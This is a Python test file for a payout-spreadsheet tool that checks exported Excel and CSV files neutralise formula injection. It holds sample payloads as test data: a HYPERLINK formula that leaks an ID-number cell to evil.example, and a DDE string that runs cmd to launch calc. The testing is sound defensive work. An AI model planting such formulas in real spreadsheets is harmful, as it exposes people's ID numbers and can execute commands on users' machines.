"""Every .xlsx export keeps input text as text and prints like a clerk would print from WPS.

A village's list cell ``=HYPERLINK("http://…?leak="&D3,"点击")`` is text to gkdesk; openpyxl
would write it as a live formula, and in the batch export column D is the full ID. The
tests import such cells through the real CLI, export through the real CLI, and read the
files' XML: no ``<f>`` element anywhere, the text intact, and a print set-up present.
"""

from __future__ import annotations

import zipfile
from pathlib import Path

from openpyxl import load_workbook

from gkdesk.sheets.writer import csv_text
from tests.payout_files import pid, simple_xlsx

LEAK = '=HYPERLINK("http://evil.example/?leak="&D3,"点击核对")'
DDE = "+cmd|' /C calc'!A0"


def _as_text_cells(path: Path) -> Path:
    """Store formula-looking cells as text, as Excel does for a cell typed with a leading
    apostrophe or pasted from a web page: the text survives the import."""
    wb = load_workbook(path)
    for row in wb.active.iter_rows():
        for c in row:
            if isinstance(c.value, str) and c.value.startswith("="):
                c.data_type = "s"
    wb.save(path)
    return path


def _xml_of_sheets(path: Path) -> str:
    with zipfile.ZipFile(path) as z:
        return "".join(z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/worksheets/"))


def _assert_print_ready(path: Path) -> None:
    wb = load_workbook(path)
    for ws in wb.worksheets:
        assert ws.page_setup.fitToWidth in (1, "1"), ws.title
        assert ws.sheet_properties.pageSetUpPr.fitToPage, ws.title
        assert ws.print_title_rows, ws.title


def test_batch_export_keeps_formula_text_as_text(store, cli, tmp_path: Path) -> None:
    path = simple_xlsx(tmp_path / "list.xlsx",
                       [["高桥村", "1组", "张三", pid(1), 2.5, 131.42, 328.55, LEAK],
                        ["高桥村", "2组", "李四", pid(2), 1, 131.42, 131.42, DDE]],
                       header=["村", "组", "姓名", "身份证号", "面积", "标准", "金额", "备注"])
    _as_text_cells(path)
    r = cli("payouts", "import", str(path), "--program", "耕地地力保护补贴", "--year", "2026", "--json")
    assert r.code == 0, r.out + r.err
    batch = r.json["batch"]["id"] if isinstance(r.json.get("batch"), dict) else r.json["batch"]
    out = tmp_path / "export.xlsx"
    e = cli("payouts", "export", str(batch), "-o", str(out))
    assert e.code == 0, e.err
    xml = _xml_of_sheets(out)
    assert "<f>" not in xml and "<f " not in xml
    texts = [c.value for row in load_workbook(out).active.iter_rows() for c in row]
    assert LEAK in texts and DDE in texts
    _assert_print_ready(out)


def test_error_workbook_keeps_rejected_cells_as_text(store, cli, tmp_path: Path) -> None:
    path = simple_xlsx(tmp_path / "list.xlsx",
                       [["高桥村", "1组", "张三", pid(1), 2.5, 131.42, 328.55],
                        ["高桥村", "1组", "王五", "=HYPERLINK(\"http://x/?\"&D3)", 1, 131.42, 131.42]])
    _as_text_cells(path)
    errors = tmp_path / "errors.xlsx"
    r = cli("payouts", "import", str(path), "--program", "耕地地力保护补贴", "--year", "2026",
            "--valid-only", "--errors-out", str(errors))
    assert r.code == 0, r.err
    assert errors.exists()
    xml = _xml_of_sheets(errors)
    assert "<f>" not in xml and "HYPERLINK" in xml
    _assert_print_ready(errors)


def test_csv_cells_are_neutralised() -> None:
    assert csv_text(LEAK) == "'" + LEAK
    assert csv_text("@SUM(A1)") == "'@SUM(A1)"
    assert csv_text("\t=1") == "'\t=1"
    assert csv_text("张三") == "张三" and csv_text(12.5) == 12.5
